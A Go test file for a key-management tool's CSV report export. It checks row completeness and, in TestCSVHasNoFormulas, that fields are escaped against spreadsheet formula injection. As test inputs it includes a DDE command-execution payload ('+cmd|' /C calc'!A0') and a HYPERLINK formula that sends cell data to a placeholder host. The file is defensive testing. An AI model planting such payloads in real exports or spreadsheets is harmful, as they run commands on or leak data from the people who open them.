package report_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/keyreeve/keyreeve/enforcer"
	"github.com/keyreeve/keyreeve/report"
)

// table reads a CSV report back, by the names of its columns.
func table(t *testing.T, r report.Report) []map[string]string {
	t.Helper()
	var out bytes.Buffer
	if err := report.CSV(&out, r); err != nil {
		t.Fatal(err)
	}
	for line := range strings.SplitAfterSeq(out.String(), "\r\n") {
		onlyASCII(t, strings.TrimSuffix(line, "\r\n"))
	}
	rows, err := csv.NewReader(&out).ReadAll() // each with the fields of the first
	if err != nil {
		t.Fatal(err)
	}
	var list []map[string]string
	for _, row := range rows[1:] {
		fields := make(map[string]string)
		for i, name := range rows[0] {
			fields[name] = row[i]
		}
		list = append(list, fields)
	}
	return list
}

func TestCSV(t *testing.T) {
	var out bytes.Buffer
	if err := report.CSV(&out, village(t)); err != nil {
		t.Fatal(err)
	}
	golden(t, "village.csv", out.String())
}

// Every account has a row, and what goes is counted as elsewhere.
func TestCSVIsWhole(t *testing.T) {
	for _, r := range []report.Report{example(t), village(t)} {
		accounts, goes, skipped := make(map[string]bool), 0, 0
		for _, row := range table(t, r) {
			if row["action"] == "left-alone" {
				skipped++
				if row["user"] == "" || row["detail"] == "" || row["uid"]+row["loses_access"] != "" {
					t.Errorf("%v", row)
				}
				continue
			}
			accounts[row["user"]] = true
			if row["action"] == "remove" && row["change"] == "true" {
				goes++
			}
		}
		if c := r.Count(); len(accounts) != c.Accounts || goes != c.Remove || skipped != c.Skipped {
			t.Errorf("%d of %d accounts, %d of %d lines, %d of %d left alone", len(accounts), c.Accounts, goes, c.Remove, skipped, c.Skipped)
		}
	}
}

// What a user writes is no formula, wherever it stands.
func TestCSVHasNoFormulas(t *testing.T) {
	for field, want := range map[string]string{
		"=1+1": "'=1+1", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", " =1": "' =1", `"=1"`: `'"=1"`, "'=1": "''=1",
		"a;=1+1": "a;'=1+1", "a; @x;y": "a;' @x;y", "%x": "'%x", "|x": "'|x", "-1": "-1", "17": "17", "": "", "a=b": "a=b", "SHA256:+x": "SHA256:+x",
	} {
		if got := report.Guarded(field); got != want {
			t.Errorf("%q: %q, want %q", field, got, want)
		}
	}
	grants := grantsFor(t, "alice")
	evil := "=HYPERLINK(\"http://x/?\"&A1,\"\")\n"
	p := planOf(grants, "alice", first, regular(lineB+" "+evil+"command=\"=1+1\" "+lineB+" +1+1;=2\n"))
	p.Unresolved = "@x"
	rows := table(t, report.Report{Host: "=h", Results: []enforcer.Result{result(p)}})
	comments := []string{}
	for _, row := range rows {
		comments = append(comments, row["comment"])
		for name, field := range row {
			if _, after, _ := strings.Cut(field, ";"); strings.IndexAny(field, "=+-@") == 0 || strings.IndexAny(after, "=+-@") == 0 {
				t.Errorf("%s is %q", name, field)
			}
		}
	}
	slices.Sort(comments)
	if diff := cmp.Diff([]string{"", `'+1+1;'=2`, `'=HYPERLINK("http://x/?"&A1,"")`}, comments); diff != "" {
		t.Error(diff)
	}
}
